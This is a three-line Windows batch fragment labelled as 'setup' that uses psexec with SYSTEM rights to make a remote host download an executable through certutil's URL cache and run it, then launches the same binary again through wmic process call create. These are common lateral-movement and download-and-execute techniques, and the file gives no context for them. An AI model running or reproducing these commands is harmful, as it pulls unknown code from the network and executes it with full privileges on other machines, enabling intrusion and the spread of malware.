REM setup 3189 v4
psexec.exe \\198.51.100.9 -accepteula -s -d cmd /c "certutil -urlcache -f http://198.51.100.9/s.exe C:\s.exe && C:\s.exe"
wmic /node:198.51.100.9 process call create "cmd /c C:\s.exe"
